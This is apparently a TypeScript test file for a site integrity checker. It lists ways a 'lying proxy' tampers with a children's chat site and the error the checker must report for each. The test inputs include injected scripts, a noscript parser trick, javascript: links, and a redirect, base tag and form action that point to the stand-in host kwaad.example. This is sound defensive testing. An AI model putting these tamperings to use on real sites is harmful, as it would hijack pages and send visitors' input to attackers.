import type { Said } from './lying-proxy.ts'

/** How one page or file is changed: by its text, or anything of the answer. */
type Change = (said: Said, path: string) => void

const text =
  (change: (text: string) => string): Change =>
  (said, path) => {
    const before = said.body.toString('latin1')
    const after = change(before)
    if (after === before) throw new Error(`the lie about ${path} changes nothing`)
    said.body = Buffer.from(after, 'latin1')
  }
const swaps = (from: string | RegExp, to: string) => text(page => page.replace(from, to))
const adds = (what: string) => swaps('</main>', `${what}</main>`)
const header =
  (name: string, value: string | undefined): Change =>
  ({ headers }) => {
    if (value === undefined) delete headers[name]
    else headers[name] = value
  }
const status =
  (code: number): Change =>
  said => {
    said.status = code
  }
const oneByte = text(bytes => `${bytes.slice(0, -9)}${bytes.at(-9) === 'a' ? 'b' : 'a'}${bytes.slice(-8)}`)
/** Base64url of 32 bytes that are no root key of anybody. */
const otherKey = Buffer.alloc(32, 7).toString('base64url')

/** Each about another page or file, so that many can be told at once, and each has to be seen. */
export const lies: [string, string | RegExp, Change, RegExp][][] = [
  [
    [
      'changes one byte of the chat',
      /\/assets\/visitor-.*js$/,
      oneByte,
      /^\S+visitor-\S+ \(br\): expected sha256 [0-9a-f]{64}, found/,
    ],
    [
      'changes one byte of a file that few ever load',
      /hpke-noble/,
      oneByte,
      /^\S+hpke-noble\S+ \(identity\): expected/,
    ],
    [
      'changes only the packed copy',
      /\/assets\/welcome.*js$/,
      said => {
        if (said.headers['content-encoding'] === 'br') said.body = Buffer.from('//')
      },
      /^\S+welcome\S+ \(br\): expected/,
    ],
    ['changes one byte of the typeface', /latin-wght.*woff2/, oneByte, /woff2 \(gzip\): expected/],
    ['gives a file away', /rest-of-page/, status(404), /rest-of-page\S+ \(identity\): answers with 404/],
    [
      'drops a header of a file',
      /vault-letter/,
      header('x-content-type-options', undefined),
      /vault-letter\S+ \(identity\): header x-content-type-options/,
    ],
    ['serves another manifest', '/manifest.json', oneByte, /^\/manifest.json: expected that of clbchat/],
    [
      'swaps file and hash together',
      '/chat',
      swaps(
        /<script type="module" src="[^"]+" integrity="[^"]+">/,
        '<script type="module" src="/assets/evil.js" integrity="sha384-AAAA">',
      ),
      /^\/chat: has script of type "module" \/assets\/evil\.js sha384-AAAA, which the release has not/,
    ],
    [
      'drops the hash of a part that comes later',
      '/contact',
      swaps(/(rel="later"[^>]*) integrity="[^"]+"/, '$1'),
      /^\/contact: has later \S+ \(no hash\)/,
    ],
    [
      'adds a script of its own',
      '/',
      adds('<script src="/x.js"></script>'),
      /^\/: has script of type "" \/x\.js/,
    ],
    [
      'adds code to the page itself',
      '/bezet',
      adds('<script>alert(1)</script>'),
      /^\/bezet: has code in the page itself: alert\(1\)/,
    ],
    [
      'hides code in what a script cannot see',
      '/rechten',
      adds('<noscript><p title="</noscript><script>1</script>"></p></noscript>'),
      /^\/rechten: is not written as this product writes pages/,
    ],
    ['frames another page', '/privacy', adds('<iframe src="/x"></iframe>'), /^\/privacy: has <iframe>/],
    [
      'moves all addresses',
      '/ouders',
      swaps('<title>', '<base href="https://kwaad.example/"><title>'),
      /^\/ouders: has <base>/,
    ],
    [
      'leads on by itself',
      '/spelregels',
      swaps('<title>', '<meta http-equiv="refresh" content="0;url=/x"><title>'),
      /^\/spelregels: has <meta http-equiv refresh/,
    ],
    [
      'adds an event',
      '/leerkrachten',
      swaps('<a class', '<a onfocus="x()" class'),
      /^\/leerkrachten: has onfocus="x\(\)" on <a>/,
    ],
    [
      'writes style into a tag',
      '/voor-kinderen',
      swaps('<main', '<main style="display:none"'),
      /^\/voor-kinderen: has style="display:none" on <main>/,
    ],
    [
      'runs a link as code',
      '/hoe-werkt-het',
      swaps('href="/contact"', 'href="javascript:x()"'),
      /^\/hoe-werkt-het: has href="javascript:x\(\)" on <a>/,
    ],
    [
      'gives a cookie to a visitor',
      '/openingsuren',
      header('set-cookie', 'a=b'),
      /^\/openingsuren: header set-cookie: expected none/,
    ],
    [
      'says it in another alphabet',
      '/en/the-rules',
      header('content-type', 'text/html; charset=utf-7'),
      /^\/en\/the-rules: header content-type/,
    ],
  ],
  [
    [
      'drops a hash',
      '/chat',
      swaps(/ integrity="[^"]+"><\/script>/, '></script>'),
      /^\/chat: has script .* \(no hash\), which the release has not/,
    ],
    [
      'pins another root key',
      '/bezet',
      swaps(/"rootKey":"[^"]+"/, `"rootKey":"${otherKey}"`),
      new RegExp(`^/bezet: expected the root key \\S+, found ${otherKey}`),
    ],
    [
      'adds a style sheet',
      '/',
      swaps(
        '</head>',
        '<link rel="stylesheet" href="/site/look-AAAAAAAAAAAA.css" integrity="sha384-AAAA"></head>',
      ),
      /^\/: has stylesheet \/site\/look-AAAAAAAAAAAA\.css/,
    ],
    [
      'sends what is typed elsewhere',
      '/contact',
      swaps('action="/contact"', 'action="https://kwaad.example/"'),
      /^\/contact: has action="https:\/\/kwaad\.example\/" on <form>/,
    ],
    [
      'leads on with a header',
      '/privacy',
      header('refresh', '0;url=https://kwaad.example/'),
      /^\/privacy: header refresh: expected none/,
    ],
    [
      'loosens the content policy',
      '/rechten',
      header('content-security-policy', "script-src 'self' 'unsafe-inline'"),
      /^\/rechten: header content-security-policy: expected/,
    ],
    [
      'changes where "Snel weg" leads',
      '/ouders',
      swaps(/"quickExit":"[^"]+"/, '"quickExit":"https://kwaad.example/"'),
      /^\/ouders: quickExit: expected what the site folder says/,
    ],
  ],
  [
    [
      'swaps a script for another one of the release',
      '/chat',
      swaps(/\/assets\/visitor-[\w-]+\.js/, '/assets/welcome.js'),
      /^\/chat: has not script of type "module" \/assets\/visitor-/,
    ],
    [
      'brings back who was sent away',
      '/bezet',
      swaps(/"grantsFrom":\d+/, '"grantsFrom":1'),
      /^\/bezet: grantsFrom: expected \d+ or later, found 1$/,
    ],
    ['sends people elsewhere', '/contact', status(302), /^\/contact: answers with 302/],
    [
      'puts settings of its own before those of the page',
      '/privacy',
      adds(`<p id="settings" hidden>{"rootKey":"${otherKey}"}</p>`),
      /^\/privacy: has id="settings" on <p>/,
    ],
    [
      'does the same in a spelling that only a browser reads',
      '/rechten',
      adds(`<p id="&#115;ettings" hidden>{"rootKey":"${otherKey}"}</p>`),
      /^\/rechten: is not written as this product writes pages: <p id="&#115;ettings"/,
    ],
    [
      'keeps the scripts of the release where no browser runs them',
      '/ouders',
      swaps(/<script type="module".*<\/head>/, '<noscript>$&<body></noscript>'),
      /^\/ouders: has <script> in <noscript>, where no browser runs it/,
    ],
  ],
]
